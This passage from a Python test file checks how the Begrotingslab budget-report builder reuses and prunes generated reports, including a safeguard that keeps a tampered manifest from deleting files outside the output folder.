    monkeypatch.setattr(plan, "library_fingerprint", lambda: "another library")
    assert len(rebuilt()) == 9


@pytest.mark.slow
def test_reports_of_a_build_before_manifests_are_adopted(tmp_path, notebooks):
    """An --out written by a version without the manifest is not 'other files': its reports, index and stamped
    exports are recognised, and a full build prunes them like any listed file."""
    data = tmp_path / "data"
    write_budget(data, "diemen")
    write_budget(data, "weesp")
    out = tmp_path / "reports"
    build(data, out, notebooks_dir=notebooks, jobs=1)
    (out / ".begrotingslab-manifest.json").unlink()  # as an older version left it
    (out / "README.md").write_text("Gegenereerd door Begrotingslab.\n")  # ships in git
    shutil.rmtree(data / "raw" / "weesp")
    summary = build(data, out, notebooks_dir=notebooks, jobs=1)
    assert summary.ok and summary.reused == ["diemen/2024/01_zinnen"]
    assert not (out / "weesp").exists() and (out / "README.md").exists()


def test_an_edited_manifest_never_removes_a_file_outside_the_output_folder(tmp_path):
    from begrotingslab.build import manifest

    out, outside = tmp_path / "reports", tmp_path / "thesis.csv"
    (out / "diemen" / "2024").mkdir(parents=True)
    outside.write_text("x")
    (out / "diemen" / "2024" / "01_overzicht.html").write_text("<p>ours</p>")
    (out / manifest.NAME).write_text(json.dumps({"files": ["../thesis.csv", str(outside), 7,
                                                           "diemen/2024/01_overzicht.html"], "documents": 1}))
    assert manifest.remove_all(out) == ["diemen/2024/01_overzicht.html"]
    assert outside.read_text() == "x"
